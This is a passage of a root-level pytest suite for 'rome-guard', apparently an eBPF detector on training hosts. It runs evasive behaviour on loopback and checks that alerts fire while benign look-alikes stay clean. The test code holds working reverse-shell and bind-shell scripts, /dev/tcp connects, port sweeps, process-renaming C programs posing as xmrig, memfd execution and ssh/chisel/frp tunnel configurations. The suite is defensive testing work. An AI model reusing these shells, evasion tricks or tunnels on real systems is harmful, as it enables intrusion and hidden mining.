"""`rome-guard run` judges what processes do, end to end as root: real
processes, real kernel events, real sockets on loopback. Each case has at
least two spellings that differ from one another, and a look-alike from
training-host life that must stay clean."""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import urllib.request
from pathlib import Path

import pytest
from prometheus_client.parser import text_string_to_metric_families

from tests.conftest import require_root
from tests.fixtures import ssh_client
from tests.fixtures.daemon import Daemon, by_pid, daemon, rule_ids
from tests.fixtures.network import free_port, listener, sshd, wait_until, write_fake_miner
from tests.fixtures.ssh_client import (
    SSH_HOST,
    install_client_key,
    listening,
    until_listening,
    write_as,
)

WALLET = "4" + "8" * 94


@pytest.fixture(scope="module")
def guard():
    require_root()
    with daemon() as d:
        assert "ebpf sensor" in d.log
        yield d


def alerts_of(guard: Daemon, pid: int, event: str = "alert") -> list[dict]:
    return guard.alerts_for(lambda r: r.get("event") == event and r["process"]["pid"] == pid)


def metric_total(guard: Daemon, name: str, **labels: str) -> float:
    with urllib.request.urlopen(f"http://127.0.0.1:{guard.metrics_port}/metrics", timeout=30) as r:
        body = r.read().decode()
    return sum(
        s.value
        for family in text_string_to_metric_families(body)
        for s in family.samples
        if s.name == name and all(s.labels.get(k) == v for k, v in labels.items())
    )


def incident_and_hit_counts(guard: Daemon) -> tuple[float, float]:
    return (
        metric_total(guard, "rome_guard_incidents_total", category="miner"),
        metric_total(guard, "rome_guard_alerts_total", category="miner"),
    )


# --- one incident per offender -------------------------------------------------


@pytest.mark.parametrize(
    "spelling",
    [
        ["-o", "stratum+tcp://{pool}", "-u", WALLET, "-a", "rx/0", "--donate-level=1"],
        ["--url", "{pool}", "--user", WALLET, "--algo", "kawpow", "--cpu-priority", "3"],
    ],
    ids=["xmrig-flags", "long-options"],
)
def test_a_miner_matching_many_rules_is_one_incident(
    guard: Daemon, tmp_path: Path, spelling: list[str]
) -> None:
    counts_before = incident_and_hit_counts(guard)
    with listener("127.0.5.9", 0, stratum=True) as pool:
        argv = [a.format(pool=f"127.0.5.9:{pool.port}") for a in spelling]
        miner = write_fake_miner(str(tmp_path), "trainer-helper", linger_s=0.5)
        proc = subprocess.Popen([miner, *argv])
        proc.wait()
    alert = guard.wait_alert(by_pid(proc.pid))
    guard.settle()
    alerts = alerts_of(guard, proc.pid)
    assert len(alerts) == 1, [r["rule"] for r in alerts]
    rules = [hit["rule"] for hit in alert["rules"]]
    assert len(rules) >= 3 and len(set(rules)) == len(rules)
    assert alert["rule"] == rules[0] and all(hit["reason"] for hit in alert["rules"])
    assert alert["category"] == "miner"
    updates = alerts_of(guard, proc.pid, "incident_update")
    assert all(u["alert_id"] == alert["id"] for u in updates)
    # metrics count the incident once and each of its rules (the host's
    # other processes may add incidents meanwhile: each holds >= 1 hit)
    incidents, hits = (
        after - before
        for after, before in zip(incident_and_hit_counts(guard), counts_before, strict=True)
    )
    assert incidents >= 1 and hits - incidents >= len(rules) - 1


# --- probing: single-port nc -z is a health check, a sweep is a probe ----------


def test_single_port_nc_z_health_checks_are_clean(guard: Daemon) -> None:
    """The wait-for-rendezvous idiom of launch scripts, spelled three ways:
    against a listening port, a refused one, and in an until-loop."""
    with listener("127.0.7.1", 0) as master:
        checks = [
            subprocess.Popen(["nc", "-z", "127.0.7.1", str(master.port)]),
            subprocess.Popen(["ncat", "-zw", "1", "127.0.7.2", "29500"]),
            subprocess.Popen(
                [
                    "bash",
                    "-c",
                    "for i in $(seq 1 30); do nc -z -w 1 127.0.7.3 29500 && break; done; true",
                ]
            ),
        ]
        for check in checks:
            check.wait(60)
    guard.settle()
    pids = {c.pid for c in checks}
    noisy = guard.alerts_for(
        lambda r: (
            r["category"] == "net_probe"
            and (r["process"]["pid"] in pids or any(p["pid"] in pids for p in r["lineage"]))
        )
    )
    assert noisy == [], [(r["rule"], r["reason"]) for r in noisy]


def test_nc_z_over_many_ports_or_hosts_is_still_a_probe(guard: Daemon) -> None:
    listing = subprocess.Popen(["nc", "-z", "-w", "1", "127.0.7.4", "22", "80", "443"])
    ranged = subprocess.Popen(["ncat", "-zv", "127.0.7.5", "20-40"], stderr=subprocess.DEVNULL)
    sweep = subprocess.Popen(
        ["bash", "-c", "for h in $(seq 1 40); do nc -z -w 1 127.0.10.$h 22; done; true"],
        stderr=subprocess.DEVNULL,
    )
    for proc in (listing, ranged, sweep):
        proc.wait(120)
    assert guard.wait_alert(by_pid(listing.pid, "probe-netcat-zero-io"))["category"] == "net_probe"
    guard.wait_alert(by_pid(ranged.pid, "probe-netcat-zero-io"))
    # each nc of the loop checks one port: the loop itself is the sweep
    alert = guard.wait_alert(by_pid(sweep.pid, "probe-fanout"))
    assert "destinations" in alert["reason"]


PATIENT = r"""
import socket, sys, time
hosts, port, pause = sys.argv[1].split(","), int(sys.argv[2]), float(sys.argv[3])
for host in hosts:
    s = socket.socket(); s.settimeout(1)
    try: s.connect((host, port))
    except OSError: pass
    finally: s.close()
    time.sleep(pause)
"""


def test_patient_sweep_and_port_probe_are_seen(guard: Daemon) -> None:
    """Below the old 100-per-30 s threshold, above Zeek's: 30 refused hosts
    on one port at a relaxed pace, and 18 ports of one host."""
    hosts = ",".join(f"127.0.11.{h}" for h in range(1, 31))
    sweep = subprocess.Popen([sys.executable, "-c", PATIENT, hosts, "22", "0.3"])
    probe = subprocess.Popen(
        [
            "bash",
            "-c",
            "for p in 21 22 23 25 80 110 135 139 143 445 993 995 1723 3306 3389 5900 8080 8443;"
            " do (exec 3<>/dev/tcp/127.0.11.200/$p) 2>/dev/null; sleep 0.3; done; true",
        ]
    )
    sweep.wait(120)
    probe.wait(120)
    assert "destinations" in guard.wait_alert(by_pid(sweep.pid, "probe-fanout"))["reason"]
    assert "ports on 127.0.11.200" in guard.wait_alert(by_pid(probe.pid, "probe-fanout"))["reason"]


# --- stdio turned into a socket after exec: the pty reverse shell -------------

PTY_SPAWN = r"""
import os, pty, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
"""

# another spelling: close 0-2 and dup() into the lowest free fd, then
# forkpty and exec bash by hand, relaying between the pty and the socket
FORKPTY = r"""
import os, select, socket, sys
s = socket.socket()
s.connect((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.close(fd)
    os.dup(s.fileno())
pid, master = os.forkpty()
if pid == 0:
    os.execv("/bin/bash", ["bash", "--norc", "--noprofile", "-i"])
while True:
    ready, _, _ = select.select([0, master], [], [])
    for fd in ready:
        data = os.read(fd, 4096)
        if not data:
            sys.exit(0)
        os.write(master if fd == 0 else 1, data)
"""

# a terminal server (jupyter's terminals): the client's connection on a
# high fd, the shell on a pty -- stdio never becomes the socket
TERMINAL_SERVER = r"""
import os, socket, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
pid, master = os.forkpty()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-c", "sleep 3"])
time.sleep(3)
"""


def _spawn(code: str, attacker, tmp_path: Path) -> subprocess.Popen:
    """Run code from a file: a one-liner (-c) would be judged at exec
    already (shell-interpreter-oneliner), and the point is what it does."""
    script = tmp_path / "program.py"
    script.write_text(code)
    return subprocess.Popen(
        [sys.executable, str(script), attacker.host, str(attacker.port)],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def _stop(proc: subprocess.Popen) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()


@pytest.mark.parametrize(
    ("code", "shell"), [(PTY_SPAWN, "sh"), (FORKPTY, "bash")], ids=["dup2-pty.spawn", "dup-forkpty"]
)
def test_pty_reverse_shell_is_judged_when_stdio_becomes_a_socket(
    guard: Daemon, tmp_path: Path, code: str, shell: str
) -> None:
    with listener("127.0.13.1", 0) as attacker:
        proc = _spawn(code, attacker, tmp_path)
        try:
            driver = guard.wait_alert(by_pid(proc.pid, "shell-stdio-socket"))
            assert driver["category"] == "reverse_shell"
            assert driver["network"]["daddr"] == "127.0.13.1"
            # the shell's own stdio is a pty: judged by who drives it
            spawned = guard.wait_alert(
                lambda r: (
                    "shell-under-socket-stdio" in rule_ids(r)
                    and r["lineage"]
                    and r["lineage"][0]["pid"] == proc.pid
                )
            )
            assert spawned["process"]["comm"] == shell
            assert spawned["category"] == "reverse_shell"
        finally:
            _stop(proc)


# the socket made by a parent that returns at once; its forked child, alone
# in a new session, dups it onto 0-2 and spawns the shell on a pty (a
# daemonising reverse shell: the process holding the socket never made it)
DAEMONISED_PTY = r"""
import os, pty, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
if os.fork():
    os._exit(0)
os.setsid()
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
"""


def test_daemonised_pty_reverse_shell_is_judged_in_the_child(guard: Daemon, tmp_path: Path) -> None:
    with listener("127.0.13.3", 0) as attacker:
        proc = _spawn(DAEMONISED_PTY, attacker, tmp_path)
        try:
            driver = guard.wait_alert(
                lambda r: (
                    "shell-stdio-socket" in rule_ids(r)
                    and r["network"].get("daddr") == "127.0.13.3"
                    and r["process"]["pid"] != proc.pid
                )
            )
            assert driver["category"] == "reverse_shell"
            assert driver["process"]["comm"].startswith("python")  # the child, not its shell
            # reparented to init once its parent exited: lineage still names the
            # process that created it (and made the socket)
            assert driver["lineage"][0]["pid"] == proc.pid
            spawned = guard.wait_alert(
                lambda r: (
                    "shell-under-socket-stdio" in rule_ids(r)
                    and r["lineage"]
                    and r["lineage"][0]["pid"] == driver["process"]["pid"]
                )
            )
            assert spawned["process"]["comm"] == "sh"
        finally:
            _stop(proc)
            with contextlib.suppress(ProcessLookupError, KeyError, NameError):
                os.killpg(driver["process"]["pid"], signal.SIGKILL)


def test_terminal_server_shell_on_a_pty_is_clean(guard: Daemon, tmp_path: Path) -> None:
    with listener("127.0.13.2", 0) as client:
        proc = _spawn(TERMINAL_SERVER, client, tmp_path)
        try:
            proc.wait(30)
            guard.settle()
        finally:
            _stop(proc)
    noisy = guard.alerts_for(
        lambda r: (
            r["category"] == "reverse_shell"
            and (r["process"]["pid"] == proc.pid or any(p["pid"] == proc.pid for p in r["lineage"]))
        )
    )
    assert noisy == []


# --- renamed after exec -----------------------------------------------------------

RENAMER_C = r"""
#include <arpa/inet.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char host[64], *end = argv[argc - 1] + strlen(argv[argc - 1]);
    int port = atoi(argv[2]), linger = argc > 3 ? atoi(argv[3]) : 3;
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
    int s;

    strncpy(host, argv[1], sizeof(host) - 1);
    host[sizeof(host) - 1] = 0;
    memset(argv[0], 0, end - argv[0]); /* the whole argv area: ps shows a new title */
    strcpy(argv[0], "xmrig");
    prctl(PR_SET_NAME, "xmrig", 0, 0, 0);
    inet_pton(AF_INET, host, &sa.sin_addr);
    s = socket(AF_INET, SOCK_STREAM, 0);
    connect(s, (struct sockaddr *)&sa, sizeof(sa));
    sleep(linger);
    return 0;
}
"""

COMM_WRITER = r"""
import socket, sys, time
with open("/proc/self/comm", "w") as f:
    f.write(sys.argv[3])
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
time.sleep(2)
"""


def _build(tmp_path: Path, source: str, name: str) -> str:
    c_file = tmp_path / f"{name}.c"
    c_file.write_text(source)
    binary = tmp_path / name
    subprocess.run(
        ["gcc", "-O1", "-include", "stdlib.h", "-o", str(binary), str(c_file)], check=True
    )
    return str(binary)


def test_renamed_after_exec_is_judged_as_its_new_name(guard: Daemon, tmp_path: Path) -> None:
    helper = _build(tmp_path, RENAMER_C, "helper")
    with listener("127.0.14.1", 0, stratum=True) as pool:
        c_renamer = subprocess.Popen([helper, "127.0.14.1", str(pool.port)])
        py_renamer = subprocess.Popen(
            [sys.executable, "-c", COMM_WRITER, "127.0.14.1", str(pool.port), "kdevtmpfsi"]
        )
        try:
            alert = guard.wait_alert(by_pid(c_renamer.pid, "miner-known-binary"))
            assert alert["process"]["comm"] == "xmrig" and alert["category"] == "miner"
            alert = guard.wait_alert(by_pid(py_renamer.pid, "miner-known-binary"))
            assert alert["process"]["comm"] == "kdevtmpfsi"
        finally:
            for proc in (c_renamer, py_renamer):
                proc.kill()
                proc.wait()


def test_training_process_renaming_itself_is_clean(guard: Daemon) -> None:
    """PyTorch names its main thread pt_main_thread; launchers set titles."""
    with listener("127.0.14.2", 0) as store:
        proc = subprocess.Popen(
            [sys.executable, "-c", COMM_WRITER, "127.0.14.2", str(store.port), "pt_main_thread"]
        )
        proc.wait(30)
    guard.settle()
    assert guard.alerts_for(by_pid(proc.pid)) == []


# --- exe facts at judgement time: deleted binaries and memfds -------------------


def _private_copy(program: str) -> tuple[str, str]:
    """A copy of program outside /tmp (a /tmp path is evidence by itself)."""
    directory = tempfile.mkdtemp(prefix="rg-bin-", dir="/var/lib")
    path = os.path.join(directory, "helper")
    shutil.copy(shutil.which(program) or program, path)
    return directory, path


@pytest.mark.parametrize(
    ("program", "script"),
    [
        # "; true": bash would exec the last command, and a sleep is not deleted
        ("bash", "rm -f {path}; exec 3<>/dev/tcp/{host}/{port}; sleep 2; true"),
        (
            "perl",
            "use IO::Socket::INET; unlink '{path}'; "
            "my $s = IO::Socket::INET->new('{host}:{port}') or die; sleep 2",
        ),
    ],
    ids=["bash-dev-tcp", "perl-io-socket"],
)
@pytest.mark.parametrize(("port", "expected"), [(3333, True), (8081, False)])
def test_binary_deleted_after_start_is_judged_by_its_exe_now(
    guard: Daemon, program: str, script: str, port: int, expected: bool
) -> None:
    directory, path = _private_copy(program)
    host = "127.0.15.1" if program == "bash" else "127.0.15.2"
    flag = "-c" if program == "bash" else "-e"
    try:
        with listener(host, port):
            proc = subprocess.Popen(
                [path, flag, script.format(path=path, host=host, port=port)],
                stderr=subprocess.DEVNULL,
            )
            proc.wait(30)
        assert not os.path.exists(path)
        if expected:
            alert = guard.wait_alert(by_pid(proc.pid, "miner-pool-port-supporting"))
            assert "exe deleted" in next(
                hit["reason"]
                for hit in alert["rules"]
                if hit["rule"] == "miner-pool-port-supporting"
            )
        else:  # an upgraded service whose binary was replaced under it
            guard.settle()
            assert guard.alerts_for(by_pid(proc.pid)) == []
    finally:
        shutil.rmtree(directory, ignore_errors=True)


MEMFD_EXEC = r"""
import os, shutil, sys
name, how = sys.argv[1], sys.argv[2]
fd = os.memfd_create(name, 0)
with open(shutil.which("sleep"), "rb") as src:
    os.write(fd, src.read())
if how == "fexecve":
    os.execve(fd, ["sleep", "1"], dict(os.environ))
else:
    os.execv(f"/proc/self/fd/{fd}", ["sleep", "1"])
"""


@pytest.mark.parametrize(
    ("name", "how"), [("xmrig", "fexecve"), ("kinsing", "proc-fd")], ids=["fexecve", "proc-fd"]
)
def test_memfd_named_like_a_miner(guard: Daemon, name: str, how: str) -> None:
    proc = subprocess.Popen([sys.executable, "-c", MEMFD_EXEC, name, how])
    proc.wait(30)
    alert = guard.wait_alert(by_pid(proc.pid, "miner-known-binary"))
    assert alert["process"]["exe"] == f"/memfd:{name} (deleted)"
    assert alert["category"] == "miner"


def test_memfd_of_a_jit_is_clean(guard: Daemon) -> None:
    proc = subprocess.Popen([sys.executable, "-c", MEMFD_EXEC, "jit-cache", "fexecve"])
    proc.wait(30)
    guard.settle()
    assert guard.alerts_for(by_pid(proc.pid)) == []


# --- ssh forwards that live in config files ----------------------------------


@pytest.fixture
def ssh_user():
    """A throwaway user with a home of its own: its ~/.ssh/config is read
    by ssh (and by ssh -G, run as that user), the host's root config is
    left alone."""
    name = f"rgssh{os.getpid() % 100000}"
    home = tempfile.mkdtemp(prefix="rg-home-")
    subprocess.run(["useradd", "-M", "-d", home, "-s", "/bin/sh", name], check=True)
    try:
        entry = pwd.getpwnam(name)
        os.chown(home, entry.pw_uid, entry.pw_gid)
        yield entry
    finally:
        subprocess.run(["userdel", name], check=False)
        shutil.rmtree(home, ignore_errors=True)


def _connect_or_none(host: str, port: int) -> socket.socket | None:
    try:
        return socket.create_connection((host, port), timeout=1)
    except OSError:
        return None


def test_remote_forward_in_a_config_file(guard: Daemon, tmp_path: Path) -> None:
    """ssh -F cfg -N h1, the forward in a Match block: the forward really
    listens, and the rule names the effective configuration."""
    forward = free_port()
    with sshd("127.0.0.1") as server:
        cfg = tmp_path / "tunnels.cfg"
        cfg.write_text(
            SSH_HOST.format(alias="h1", port=server.port, key=server.client_key)
            + f"Match originalhost h1\n  RemoteForward 127.0.0.1:{forward} localhost:22\n"
        )
        plain = tmp_path / "plain.cfg"
        plain.write_text(SSH_HOST.format(alias="h1", port=server.port, key=server.client_key))
        tunnel = subprocess.Popen(["ssh", "-F", str(cfg), "-N", "h1"], stderr=subprocess.DEVNULL)
        quiet = subprocess.Popen(["ssh", "-F", str(plain), "h1", "true"])
        try:
            until_listening(forward, tunnel)
            alert = guard.wait_alert(by_pid(tunnel.pid, "tunnel-ssh-remote-forward"))
            assert alert["category"] == "reverse_tunnel"
            assert "effective ssh config has remote forward" in alert["reason"]
            assert quiet.wait(30) == 0
            guard.settle()
            assert guard.alerts_for(by_pid(quiet.pid)) == []
        finally:
            for proc in (tunnel, quiet):
                proc.kill()
                proc.wait()


def test_remote_forward_in_the_users_config_through_include(
    guard: Daemon, ssh_user, tmp_path: Path
) -> None:
    """A host alias in ~/.ssh/config, its RemoteForward in an Included file,
    run by an ordinary user."""
    forward = free_port()
    home = ssh_user.pw_dir
    with sshd("127.0.0.1") as server:
        key = install_client_key(ssh_user, server)
        write_as(ssh_user, os.path.join(home, ".ssh", "config"), "Include config.d/*.conf\n")
        write_as(
            ssh_user,
            os.path.join(home, ".ssh", "config.d", "dev.conf"),
            SSH_HOST.format(alias="devbox", port=server.port, key=key)
            + f"  RemoteForward 127.0.0.1:{forward} localhost:22\n"
            + SSH_HOST.format(alias="devbox-plain", port=server.port, key=key),
        )
        as_user = ssh_client.as_user(ssh_user)
        tunnel = subprocess.Popen(["ssh", "-N", "devbox"], stderr=subprocess.DEVNULL, **as_user)
        quiet = subprocess.Popen(["ssh", "devbox-plain", "true"], **as_user)
        try:
            until_listening(forward, tunnel)
            alert = guard.wait_alert(by_pid(tunnel.pid, "tunnel-ssh-remote-forward"))
            assert alert["process"]["uid"] == ssh_user.pw_uid
            assert alert["category"] == "reverse_tunnel"
            assert quiet.wait(30) == 0
            guard.settle()
            assert guard.alerts_for(by_pid(quiet.pid)) == []
        finally:
            for proc in (tunnel, quiet):
                proc.kill()
                proc.wait()


# --- tunnels known by their syntax, not their name -------------------------------

TUNNEL_CLIENT = r"""#!{python}
import os, socket, sys, time
host, port = sys.argv[-1].split("://")[-1].rsplit(":", 1)
s = socket.create_connection((host, int(port)))
time.sleep(float(os.environ.get("LINGER_S", "1")))
"""


@pytest.mark.parametrize(
    "arguments",
    [
        ["client", "--keepalive", "25s", "R:socks", "{server}"],  # chisel's shape
        ["-L", "rtcp://:2222/127.0.0.1:22", "-F", "relay+tls://{server}"],  # gost's
    ],
    ids=["chisel-shape", "gost-shape"],
)
def test_tunnel_client_renamed_is_known_by_its_arguments(
    guard: Daemon, tmp_path: Path, arguments: list[str]
) -> None:
    program = tmp_path / "dbus-session-helper"
    program.write_text(TUNNEL_CLIENT.replace("{python}", sys.executable))
    program.chmod(0o755)
    with listener("127.0.16.1", 0) as server:
        argv = [a.replace("{server}", f"127.0.16.1:{server.port}") for a in arguments]
        proc = subprocess.Popen([str(program), *argv])
        proc.wait(30)
        assert server.accepted  # it really connected out
    alert = guard.wait_alert(by_pid(proc.pid, "tunnel-tool-syntax"))
    assert alert["category"] == "reverse_tunnel"
    assert alert["process"]["comm"] == "dbus-session-he"  # no tool name anywhere


# --- io_uring: a datagram that no send syscall carries -------------------------

URING_SENDMSG = Path(__file__).resolve().parent / "fixtures" / "uring_sendmsg.c"


def _udp_sink(host: str, port: int) -> socket.socket:
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind((host, port))
    sink.settimeout(10)
    return sink


@pytest.mark.parametrize(
    ("where", "port", "extra", "expected"),
    [
        ("tmp", 3333, [], True),  # a binary run from /tmp
        ("var", 14444, [WALLET], True),  # a wallet in its arguments
        ("tmp", 53, [], False),  # DNS over io_uring from /tmp: not a pool
    ],
    ids=["tmp-binary", "wallet-arg", "dns-clean"],
)
def test_io_uring_sendmsg_datagram_is_seen(
    guard: Daemon, tmp_path: Path, where: str, port: int, extra: list[str], expected: bool
) -> None:
    directory = str(tmp_path) if where == "tmp" else tempfile.mkdtemp(dir="/var/lib")
    binary = os.path.join(directory, "svc")
    subprocess.run(["gcc", "-O1", "-o", binary, str(URING_SENDMSG)], check=True)
    host = f"127.0.17.{port % 200 + 1}"
    try:
        with contextlib.closing(_udp_sink(host, port)) as sink:
            proc = subprocess.Popen([binary, host, str(port), *extra])
            assert sink.recv(16) == b"x"  # really sent, with IORING_OP_SENDMSG
            assert proc.wait(30) == 0
        if expected:
            alert = guard.wait_alert(by_pid(proc.pid, "miner-pool-port-supporting"))
            assert alert["network"]["proto"] == "udp" and alert["network"]["dport"] == port
        else:
            guard.settle()
            assert guard.alerts_for(by_pid(proc.pid)) == []
    finally:
        if where != "tmp":
            shutil.rmtree(directory, ignore_errors=True)


# --- scan and run agree ---------------------------------------------------------------


def test_scan_and_run_report_the_same_rules(guard: Daemon, tmp_path: Path) -> None:
    """Every case above that leaves state to see (a process, its sockets,
    its stdio), alive at once: the daemon's rule ids for each process equal
    what `rome-guard scan` finds for it. (Probes and datagrams are events,
    not state: scan has no history to judge them by.)"""
    keep = "40"
    procs: list[subprocess.Popen] = []
    directory, bash_copy = _private_copy("bash")
    try:
        with (
            listener("127.0.18.1", 0) as attacker,
            listener("127.0.18.2", 3333, stratum=True),
            listener("127.0.18.3", 3333),
            listener("127.0.18.4", 0) as tunnel_server,
            sshd("127.0.0.1") as server,
        ):
            shell_driver = _spawn(PTY_SPAWN, attacker, tmp_path)
            renamer = subprocess.Popen(
                [_build(tmp_path, RENAMER_C, "helper"), "127.0.18.2", "3333", keep]
            )
            deleted = subprocess.Popen(
                [
                    bash_copy,
                    "-c",
                    f"rm -f {bash_copy}; exec 3<>/dev/tcp/127.0.18.3/3333; sleep {keep}; true",
                ]
            )
            memfd = subprocess.Popen(
                [sys.executable, "-c", MEMFD_EXEC.replace('"1"', f'"{keep}"'), "xmrig", "fexecve"]
            )
            cfg = tmp_path / "tunnels.cfg"
            forward = free_port()
            cfg.write_text(
                SSH_HOST.format(alias="h1", port=server.port, key=server.client_key)
                + f"  RemoteForward 127.0.0.1:{forward} localhost:22\n"
            )
            tunnel = subprocess.Popen(
                ["ssh", "-F", str(cfg), "-N", "h1"], stderr=subprocess.DEVNULL
            )
            client = tmp_path / "dbus-session-helper"
            client.write_text(TUNNEL_CLIENT.replace("{python}", sys.executable))
            client.chmod(0o755)
            tool = subprocess.Popen(
                [str(client), "client", "R:socks", f"127.0.18.4:{tunnel_server.port}"],
                env=dict(os.environ, LINGER_S=keep),
            )
            procs += [shell_driver, renamer, deleted, memfd, tunnel, tool]
            until_listening(forward, tunnel)
            spawned_shell = guard.wait_alert(
                lambda r: (
                    "shell-under-socket-stdio" in rule_ids(r)
                    and r["lineage"][0]["pid"] == shell_driver.pid
                )
            )["process"]["pid"]
            expected_rules = {
                shell_driver.pid: "shell-stdio-socket",
                spawned_shell: "shell-under-socket-stdio",
                renamer.pid: "miner-known-binary",
                deleted.pid: "miner-pool-port-supporting",
                memfd.pid: "miner-known-binary",
                tunnel.pid: "tunnel-ssh-remote-forward",
                tool.pid: "tunnel-tool-syntax",
            }
            for pid, rule in expected_rules.items():
                guard.wait_alert(by_pid(pid, rule))
            guard.settle()
            result = subprocess.run(
                [sys.executable, "-m", "rome_guard", "scan", "--json"],
                capture_output=True,
                text=True,
                timeout=120,
                check=False,
            )
            assert result.returncode == 1, result.stderr
            findings = json.loads(result.stdout)["findings"]
            for pid in expected_rules:
                by_daemon = {
                    rule for r in guard.alerts_for(by_pid(pid)) for rule in rule_ids(r)
                } - {"probe-fanout"}
                by_scan = {f["rule"] for f in findings if f["process"]["pid"] == pid}
                assert by_daemon == by_scan, (pid, expected_rules[pid])
    finally:
        for proc in procs:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL) if proc is procs[0] else proc.kill()
            proc.wait()
        shutil.rmtree(directory, ignore_errors=True)


# --- argv rewritten without a rename: seen at the first connect outside loopback ---

RETITLE_C = r"""
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* TITLE='w1|w2|...' retitle HOST PORT: rewrite the argv area to the words
 * of $TITLE (NUL separated, as setproctitle-style code does; the exec'd
 * argv says nothing), then connect and linger */
int main(int argc, char **argv)
{
    char host[64], words[512] = {0}, *end = argv[argc - 1] + strlen(argv[argc - 1]);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    const char *title = getenv("TITLE");
    size_t used, i;
    int s;

    strncpy(host, argv[1], sizeof(host) - 1);
    host[sizeof(host) - 1] = 0;
    strncpy(words, title ? title : "", sizeof(words) - 1);
    used = strlen(words) + 1;
    for (i = 0; i < used; i++)
        if (words[i] == '|')
            words[i] = 0;
    memset(argv[0], 0, end - argv[0]);
    memcpy(argv[0], words, used < (size_t)(end - argv[0]) ? used : (size_t)(end - argv[0]));
    inet_pton(AF_INET, host, &sa.sin_addr);
    s = socket(AF_INET, SOCK_STREAM, 0);
    connect(s, (struct sockaddr *)&sa, sizeof(sa));
    sleep(3);
    return 0;
}
"""


@pytest.fixture
def far_host():
    """A 'remote' host outside loopback: 10.203.0.2 in a network namespace
    of the test's own, behind a veth pair; nothing leaves the machine."""
    tag = f"rg{os.getpid() % 100000}"
    ns, near, far = f"{tag}-ns", f"{tag}a", f"{tag}b"

    def ip(*args: str) -> None:
        subprocess.run(["ip", *args], check=True)

    ip("netns", "add", ns)
    try:
        ip("link", "add", near, "type", "veth", "peer", "name", far)
        ip("link", "set", far, "netns", ns)
        ip("addr", "add", "10.203.0.1/30", "dev", near)
        ip("link", "set", near, "up")
        ip("netns", "exec", ns, "ip", "addr", "add", "10.203.0.2/30", "dev", far)
        ip("netns", "exec", ns, "ip", "link", "set", far, "up")
        server = subprocess.Popen(
            [
                "ip", "netns", "exec", ns, sys.executable, "-c",
                "import socket, time\n"
                "s = socket.create_server(('10.203.0.2', 3333))\n"
                "while True: s.accept()\n",
            ]
        )  # fmt: skip
        try:
            wait_until(lambda: listening(3333, "10.203.0.2"), timeout=20)
            yield "10.203.0.2"
        finally:
            server.kill()
            server.wait()
    finally:
        subprocess.run(["ip", "link", "del", near], check=False)
        subprocess.run(["ip", "netns", "del", ns], check=False)


@pytest.mark.parametrize(
    ("title", "rule"),
    [
        (["xmrig", "--threads", "4"], "miner-known-binary"),
        (["kworker/2:1", "-o", "stratum+tcp://10.203.0.2:3333"], "miner-pool-url"),
    ],
    ids=["miner-name", "pool-url"],
)
def test_title_rewritten_without_rename_is_seen_at_first_external_connect(
    guard: Daemon, far_host: str, tmp_path: Path, title: list[str], rule: str
) -> None:
    retitle = _build(tmp_path, RETITLE_C, "retitle")
    # the argv area must be long enough for the title: pad the exec'd argv
    padding = "x" * 64
    proc = subprocess.Popen(
        [retitle, far_host, "3333", padding], env=dict(os.environ, TITLE="|".join(title))
    )
    try:
        alert = guard.wait_alert(by_pid(proc.pid, rule))
        assert alert["category"] == "miner"
        # read afresh at the connect (the rest of the argv area is NULs)
        assert alert["process"]["cmdline"][: len(title)] == title
    finally:
        proc.kill()
        proc.wait()


# a bind shell: the accepted connection is dup2'd onto stdio
BIND_SHELL = r"""
import os, pty, socket, sys
server = socket.create_server((sys.argv[1], int(sys.argv[2])))
conn, _ = server.accept()
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
pty.spawn("/bin/sh")
"""


def test_bind_shell_accepted_connection_on_stdio(guard: Daemon, tmp_path: Path) -> None:
    port = free_port("127.0.19.1")
    script = tmp_path / "bind.py"
    script.write_text(BIND_SHELL)
    proc = subprocess.Popen(
        [sys.executable, str(script), "127.0.19.1", str(port)],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        # the attacker's own connection is the one accepted (no probe first)
        attacker = wait_until(lambda: _connect_or_none("127.0.19.1", port), timeout=20)
        with attacker:
            alert = guard.wait_alert(by_pid(proc.pid, "shell-stdio-socket"))
            assert alert["category"] == "reverse_shell"
            guard.wait_alert(
                lambda r: (
                    "shell-under-socket-stdio" in rule_ids(r) and r["lineage"][0]["pid"] == proc.pid
                )
            )
    finally:
        _stop(proc)


def test_frp_config_under_any_name_is_known_by_its_content(guard: Daemon, tmp_path: Path) -> None:
    program = tmp_path / "agentd"
    program.write_text(TUNNEL_CLIENT.replace("{python}", sys.executable))
    program.chmod(0o755)
    (tmp_path / "client.toml").write_text(
        'serverAddr = "127.0.16.3"\nserverPort = 7000\n[[proxies]]\nname = "ssh"\n'
        'type = "tcp"\nlocalPort = 22\nremotePort = 6000\n'
    )
    (tmp_path / "train.yaml").write_text("model: tiny\nserver_addr: 127.0.16.3\nlr: 0.001\n")
    with listener("127.0.16.3", 0) as server:
        tunnel = subprocess.Popen(
            [str(program), "-c", "client.toml", f"127.0.16.3:{server.port}"], cwd=tmp_path
        )
        trainer = subprocess.Popen(
            [str(program), "--config", "train.yaml", f"127.0.16.3:{server.port}"], cwd=tmp_path
        )
        tunnel.wait(30)
